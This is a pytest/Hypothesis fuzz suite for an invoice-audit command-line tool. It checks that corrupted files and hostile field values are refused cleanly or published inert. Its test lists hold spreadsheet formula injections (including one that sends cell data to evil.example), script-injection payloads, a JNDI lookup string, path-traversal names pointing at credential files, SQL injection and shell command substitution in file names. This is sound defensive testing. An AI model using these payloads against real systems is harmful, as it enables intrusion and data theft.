"""Hostile input: random bytes, damaged files, wrong encodings, huge fields, formula- and HTML-laden
values and path-like names, thrown at ``fapiao-audit run`` (in-process, via ``cli.main``).

Every case must end in exit 0/1 (published) or 2 (refused, one line on stderr naming the problem),
never a traceback or a hang, and nothing may be written outside the reports and database folders:
the landing stays as it was, and the reports folder holds only the night and ``latest``.
Hypothesis is derandomised and bounded, so the suite stays fast and repeatable.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, currently_in_test_context, event, given, settings
from hypothesis import strategies as st

from factories import CANONICAL, NIGHT, invoice, write_csv
from fapiao_audit import pipeline
from fapiao_audit.cli import main

N = NIGHT.isoformat()
REAL_VALIDATE = pipeline.stage_validate
FUZZ = settings(
    max_examples=30,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.fixture(scope="module")
def fast_validate() -> Iterator[None]:
    """The GX stage replaced by a stub for the many fuzz cases (GX takes ~1 s per run; the fuzz aims
    at ingest and publish). ``test_every_hostile_value_through_the_real_pipeline`` runs GX on them all."""

    def stub(con, night, cfg):
        payload = {"success": True, "suites": []}
        pipeline._put_state(con, night, "validate", payload)
        pipeline._put_state(con, night, pipeline.GX_RESULTS_STATE, {"results": []})
        return payload

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pipeline, "stage_validate", stub)
        yield


class Hang(BaseException):
    """Raised by the alarm: a case that runs this long is treated as a hang (main() cannot catch it)."""


@contextlib.contextmanager
def no_hang(seconds: int = 60) -> Iterator[None]:
    def fire(*_: object) -> None:
        raise Hang(f"no result after {seconds} s")

    old = signal.signal(signal.SIGALRM, fire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def tree(root: Path) -> dict[str, tuple[int, int]]:
    """Every entry under root (without following links) with its size and mtime."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st_ = p.lstat()
            out[os.fsdecode(p.relative_to(root))] = (st_.st_size, st_.st_mtime_ns)
    return out


def good_rows() -> tuple[list[dict], list[dict]]:
    registry = [
        invoice("26110000000000000001"),
        invoice("26110000000000000002"),
        invoice("00012345", code="011002600111"),
    ]
    issuer = [invoice("26110000000000000001"), invoice("26110000000000000003")]
    return registry, issuer


def run_case(build: Callable[[Path], None], check: Callable[[Path], None] | None = None) -> tuple[int, str]:
    """Build a landing night in a fresh sandbox, run it, check the universal promises (and ``check``
    on the published night)."""
    box = Path(tempfile.mkdtemp(prefix="fuzz-"))
    try:
        landing, reports, db = box / "landing", box / "reports", box / "db" / "fapiao.duckdb"
        build(landing)
        before = tree(landing)
        err, out = io.StringIO(), io.StringIO()
        with no_hang(), contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            code = main(
                [
                    "run",
                    "--night",
                    N,
                    "--landing",
                    str(landing),
                    "--reports",
                    str(reports),
                    "--db",
                    str(db),
                    "--quiet",
                ]
            )
        message = err.getvalue()
        assert code in (0, 1, 2), code
        assert "Traceback" not in message and "Traceback" not in out.getvalue()
        if code == 2:
            assert message.startswith("fapiao-audit: error: ") and message.count("\n") == 1, message
            assert "unexpected" not in message, message  # every refusal is one we anticipated
            assert not (reports / N).exists()
        else:
            assert "published" in out.getvalue()
            assert set(os.listdir(reports)) == {N, "latest", "index.html"}, os.listdir(reports)
            assert sorted(os.listdir(reports / N)) == sorted(
                [
                    "exceptions.csv",
                    "exceptions.xlsx",
                    "summary.json",
                    "gx_results.json",
                    "report.html",
                    "manifest.json",
                ]
            )
            if check:
                check(reports / N)
        # nothing written beside the sandbox's three folders, the landing untouched
        assert tree(landing) == before
        assert set(os.listdir(box)) <= {"landing", "reports", "db"}
        if currently_in_test_context():
            event(f"exit {code}")  # shown by --hypothesis-show-statistics
        return code, message
    finally:
        shutil.rmtree(box, ignore_errors=True)


# ------------------------------------------------------------------ valid samples to damage


def csv_bytes(rows: list[dict], encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(CANONICAL)
    for r in rows:
        w.writerow([r.get(c, "") for c in CANONICAL])
    return buf.getvalue().encode(encoding)


def jsonl_bytes(rows: list[dict]) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows).encode()


def parquet_bytes(rows: list[dict]) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table({c: [r.get(c, "") for r in rows] for c in CANONICAL}), sink)
    return sink.getvalue()


def xlsx_bytes(rows: list[dict]) -> bytes:
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # control characters cannot be in a workbook

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(CANONICAL)
    for r in rows:
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", str(r.get(c, ""))) for c in CANONICAL])
    sink = io.BytesIO()
    wb.save(sink)
    return sink.getvalue()


WRITERS = {".csv": csv_bytes, ".jsonl": jsonl_bytes, ".parquet": parquet_bytes, ".xlsx": xlsx_bytes}


def night_with(landing: Path, issuer_file: str, content: bytes, *, as_registry: bool = False) -> None:
    registry, issuer = good_rows()
    base = landing / N
    if as_registry:
        (base / "registry").mkdir(parents=True)
        (base / "registry" / issuer_file).write_bytes(content)
        write_csv(base / "issuers" / "erp" / "erp.csv", issuer)
    else:
        write_csv(base / "registry" / "registry.csv", registry)
        (base / "issuers" / "erp").mkdir(parents=True)
        (base / "issuers" / "erp" / issuer_file).write_bytes(content)


# ------------------------------------------------------------------ 1. random bytes


@FUZZ
@given(
    content=st.binary(min_size=1, max_size=3000),
    ext=st.sampled_from(sorted(WRITERS)),
    as_registry=st.booleans(),
)
def test_random_bytes_as_a_delivered_file(fast_validate, content, ext, as_registry):
    code, message = run_case(
        lambda landing: night_with(landing, f"data{ext}", content, as_registry=as_registry)
    )
    if code == 2:
        assert f"data{ext}" in message  # the message names the file


# ------------------------------------------------------------------ 2. damaged and mis-encoded files


def damage(data: bytes, op: str, at: float, junk: bytes) -> bytes:
    i = int(len(data) * at)
    if op == "truncate":
        return data[:i]
    if op == "flip":
        return data[:i] + bytes([data[i] ^ 0xFF]) + data[i + 1 :] if i < len(data) else data + junk
    if op == "insert":
        return data[:i] + junk + data[i:]
    return data[:i] + data[i + len(junk) :]  # cut a slice out


@FUZZ
@given(
    ext=st.sampled_from(sorted(WRITERS)),
    op=st.sampled_from(["truncate", "flip", "insert", "cut"]),
    at=st.floats(0, 1),
    junk=st.binary(min_size=1, max_size=64),
)
def test_damaged_files(fast_validate, ext, op, at, junk):
    _, issuer = good_rows()
    content = damage(WRITERS[ext](issuer), op, at, junk)
    run_case(lambda landing: night_with(landing, f"damaged{ext}", content))


@FUZZ
@given(
    encoding=st.sampled_from(
        [
            "utf-16",
            "utf-16-le",
            "utf-32",
            "latin-1",
            "cp1252",
            "shift_jis",
            "big5",
            "gb18030",
            "utf-8-sig",
            "utf-7",
        ]
    ),
    ext=st.sampled_from([".csv", ".jsonl"]),
    as_registry=st.booleans(),
)
def test_wrong_encodings(fast_validate, encoding, ext, as_registry):
    registry, issuer = good_rows()
    rows = registry if as_registry else issuer
    rows = [{**r, "buyer_name": "张三 Müller ©"} for r in rows]
    text = (csv_bytes(rows) if ext == ".csv" else jsonl_bytes(rows)).decode("utf-8")
    content = text.encode(encoding, errors="replace")
    run_case(lambda landing: night_with(landing, f"enc{ext}", content, as_registry=as_registry))


# ------------------------------------------------------------------ 3. hostile values


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    '@HYPERLINK("http://x")',
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "'=1",
]
HTML = [
    "<script>alert('TOKEN')</script>",
    "</script><script>alert('TOKEN')</script>",
    "<img src=x onerror=alert('TOKEN')>",
    "\"><svg onload=alert('TOKEN')>",
    "<!--",
    "]]>",
    "{{7*7}}",
    "${jndi:ldap://x/TOKEN}",
    "&lt;b&gt;",
    "</textarea></style></title>",
]
PATHS = [
    "../../etc/passwd",
    "/dev/zero",
    "C:\\Windows\\system32",
    "~/.ssh/id_rsa",
    "file:///etc/passwd",
    "\\\\server\\share\\x",
    "%2e%2e%2f",
    "/proc/self/environ",
    "NUL",
    "a/../../b",
]
ODD = [
    "",
    " ",
    "\u202eevil\u202c",
    "\u200b",
    "\ufeff",
    "𠀀𪚥🧾",
    "ｆｕｌｌ１２３",
    "\x07\x1b[31m",
    "line\nbreak",
    'quote"inside',
    "semi;colon",
    "1e309",
    "NaN",
    "-0",
    "99999999999999999999999.999",
    "2026-02-30",
    "9" * 40,
]
HOSTILE = st.one_of(
    st.sampled_from(FORMULAS + HTML + PATHS + ODD),
    st.text(max_size=40),
    st.builds(lambda s, n: s * n, st.sampled_from(["A", "发", "<", "="]), st.integers(5000, 20000)),
)
FIELDS = [
    "buyer_name",
    "seller_name",
    "remark",
    "invoice_number",
    "amount",
    "issue_time",
    "status",
    "invoice_type",
    "buyer_tax_id",
    "tax_rate",
    "invoice_code",
]


@settings(FUZZ, max_examples=20)
@given(
    values=st.dictionaries(st.sampled_from(FIELDS), HOSTILE, min_size=1, max_size=4),
    side=st.sampled_from(["issuer", "registry"]),
    ext=st.sampled_from([".csv", ".jsonl", ".xlsx"]),
)
def test_hostile_values_are_published_inert(fast_validate, values, side, ext):
    registry, issuer = good_rows()
    if side == "issuer":
        issuer = [*issuer, {**invoice("26110000000000000002"), **values}]
    else:
        registry = [*registry, {**invoice("26110000000000000003"), **values}]

    def build(landing: Path) -> None:
        (landing / N / "registry").mkdir(parents=True)
        (landing / N / "issuers" / "erp").mkdir(parents=True)
        (landing / N / "registry" / f"registry{ext}").write_bytes(WRITERS[ext](registry))
        (landing / N / "issuers" / "erp" / f"erp{ext}").write_bytes(WRITERS[ext](issuer))

    run_case(build, check_outputs)


def check_outputs(night: Path) -> None:
    html = (night / "report.html").read_text(encoding="utf-8")
    for raw in ("<script>alert('TOKEN')", "<img src=x onerror", "<svg onload", "</textarea></style>"):
        assert raw not in html, raw  # every value escaped
    scripts = re.findall(r"<script\b", html)
    assert len(scripts) == len(re.findall(r"</script>", html))
    with zipfile.ZipFile(night / "exceptions.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name  # no formulas
    json.loads((night / "summary.json").read_text(encoding="utf-8"))
    manifest = json.loads((night / "manifest.json").read_text(encoding="utf-8"))
    assert {f["name"] for f in manifest["files"]} == {
        "exceptions.csv",
        "exceptions.xlsx",
        "summary.json",
        "gx_results.json",
        "report.html",
    }


# ------------------------------------------------------------------ 4. path-like and odd names


FILE_NAMES = [
    "=1+1.csv",
    "<img src=x onerror=alert(1)>.csv",
    "..csv",
    "-rf.csv",
    "--night.csv",
    "a b (1).CSV",
    "发票 导出.csv",
    "x" * 200 + ".csv",
    "data.csv.csv",
    "'; DROP TABLE staged_invoices; --.csv",
    "%00.csv",
    "$(touch pwned).csv",
    "`id`.csv",
    "con.csv",
    "a\tb.csv",
    "a\nb.csv",
    "\u202egpj.csv",
    "report.html.csv",
    "latest.csv",
    "..\\..\\x.csv",
]
SYSTEM_NAMES = [
    "erp",
    "pos-2",
    "a" * 64,
    "a" * 65,
    "-x",
    "_x",
    "...",
    "a b",
    "发票",
    "registry",
    "REGISTRY",
    "x'; DROP TABLE staged_invoices; --",
    "$(id)",
    "latest",
    "2026-11-21",
    "\u202eerp",
]


@FUZZ
@given(
    file_name=st.one_of(
        st.sampled_from(FILE_NAMES), st.text(min_size=1, max_size=30).map(lambda s: s + ".csv")
    ),
    system=st.sampled_from(SYSTEM_NAMES),
    undecodable=st.booleans(),
    link_out=st.booleans(),
)
def test_path_like_and_odd_names(fast_validate, file_name, system, undecodable, link_out):
    registry, issuer = good_rows()

    def build(landing: Path) -> None:
        write_csv(landing / N / "registry" / "registry.csv", registry)
        folder = landing / N / "issuers" / system
        folder.mkdir(parents=True)
        name = os.fsencode(file_name.replace("/", "_").replace("\x00", "_"))
        if undecodable:
            name = b"\xff\xfe" + name
        path = os.path.join(os.fsencode(folder), name[-250:])
        with open(path, "wb") as f:
            f.write(csv_bytes(issuer))
        if link_out:
            os.symlink("/etc/hostname", os.path.join(os.fsencode(folder), b"linked.csv"))

    code, message = run_case(build)
    if link_out or undecodable:
        assert code == 2


@settings(max_examples=60, deadline=None, derandomize=True, database=None)
@given(
    night=st.one_of(
        st.text(max_size=20),
        st.sampled_from(
            [
                "../2026-11-21",
                "2026-11-21/..",
                "2026-11-21\n",
                " 2026-11-21",
                "2026-11-21T00:00",
                "+2026-11-21",
                "２０２６-１１-２１",
                "20261121",
                "2026-W47-6",
            ]
        ),
    )
)
def test_night_argument(night):
    box = Path(tempfile.mkdtemp(prefix="fuzz-night-"))
    try:
        err = io.StringIO()
        with no_hang(), contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = main(
                [
                    "run",
                    "--night",
                    night,
                    "--landing",
                    str(box),
                    "--reports",
                    str(box / "r"),
                    "--db",
                    str(box / "d" / "f.duckdb"),
                ]
            )
        assert (
            code == 2
            and err.getvalue().startswith("fapiao-audit: error: ")
            and "Traceback" not in err.getvalue()
        )
        assert not (box / "r").exists()
        assert set(os.listdir(box)) <= {"d"}
    finally:
        shutil.rmtree(box, ignore_errors=True)


@pytest.mark.parametrize("size", [3 << 20])
def test_huge_field(fast_validate, size, tmp_path):
    """A single 3 MB field (beyond DuckDB's longest line) in each text format: refused or rejected, cleanly."""
    for ext in (".csv", ".jsonl"):
        _, issuer = good_rows()
        rows = [*issuer, {**invoice("26110000000000000009"), "remark": "长" * size}]
        run_case(lambda landing, rows=rows, ext=ext: night_with(landing, f"huge{ext}", WRITERS[ext](rows)))


def test_every_hostile_value_through_the_real_pipeline(monkeypatch):
    """All hostile values at once, GX included: the expectations run on them and the night is published."""
    from fapiao_audit import pipeline

    monkeypatch.setattr(pipeline, "stage_validate", REAL_VALIDATE)
    values = FORMULAS + HTML + PATHS + ODD + ["A" * 40000]
    registry, issuer = good_rows()
    extra = []
    for i, v in enumerate(values):
        field = FIELDS[i % len(FIELDS)]
        extra.append({**invoice(f"2611000000000000{i + 100:04d}"), field: v, "buyer_name": v})
    issuer = [*issuer, *extra[::2]]
    registry = [*registry, *extra[1::2]]

    def build(landing: Path) -> None:
        write_csv(landing / N / "registry" / "registry.csv", registry)
        (landing / N / "issuers" / "web").mkdir(parents=True)
        (landing / N / "issuers" / "web" / "web.jsonl").write_bytes(jsonl_bytes(issuer))
        (landing / N / "issuers" / "till").mkdir(parents=True)
        (landing / N / "issuers" / "till" / "till.xlsx").write_bytes(xlsx_bytes(issuer[:10]))

    def check(night: Path) -> None:
        check_outputs(night)
        summary = json.loads((night / "summary.json").read_text(encoding="utf-8"))
        assert summary["expectations"]["suites"]
        assert not [r for s in summary["expectations"]["suites"] for r in s["results"] if r.get("error")]

    code, _ = run_case(build, check)
    assert code in (0, 1)
